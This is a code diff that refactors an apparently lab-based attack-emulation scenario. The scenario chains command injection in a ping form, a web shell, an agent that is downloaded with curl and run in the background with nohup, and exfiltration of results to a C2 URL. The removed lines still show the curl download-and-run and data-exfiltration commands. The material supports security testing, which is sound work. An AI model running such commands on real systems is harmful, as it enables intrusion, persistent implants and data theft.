@@ -19,12 +19,11 @@ from provarmor.lab.scenarios.implants import (
     implant_payload,
     scan_targets,
 )
+from provarmor.lab.scenarios.steps import download, exploit_step, post_to_c2, web_exploit
 
 STEPS = (
-    StepSpec(
-        name="exploit",
-        summary="Command injection in the ping form runs a shell as the web user.",
-        techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL, t.OWNER_USER),
+    exploit_step(
+        t.OWNER_USER, summary="Command injection in the ping form runs a shell as the web user."
     ),
     StepSpec(
         name="encoded-recon",
@@ -72,14 +71,14 @@ def plan(ctx: LabContext) -> Plan:
     return Plan(
         payloads=(agent, scanner),
         actions=(
-            Action(step="exploit", channel=Channel.WEBSHELL, command="id; whoami"),
+            web_exploit("id; whoami"),
             Action(step="encoded-recon", channel=Channel.WEBSHELL, command=recon),
             Action(
                 step="deploy-agent",
                 channel=Channel.WEBSHELL,
                 command=(
-                    f"mkdir -p {folder} && curl -s -o {folder}/{agent_name} "
-                    f"{ctx.payload_url(agent.path)} && chmod +x {folder}/{agent_name} && "
+                    f"{download(ctx, agent, f'{folder}/{agent_name}')} && "
+                    f"chmod +x {folder}/{agent_name} && "
                     f"nohup {folder}/{agent_name} >/dev/null 2>&1 &"
                 ),
             ),
@@ -101,7 +100,7 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="exfil-results",
                 channel=Channel.IMPLANT,
-                command=f"curl -s --data-binary @{results} {ctx.c2.url}/{ctx.names.token(6)}",
+                command=post_to_c2(ctx, f"@{results}"),
             ),
         ),
         artifacts=(folder,),
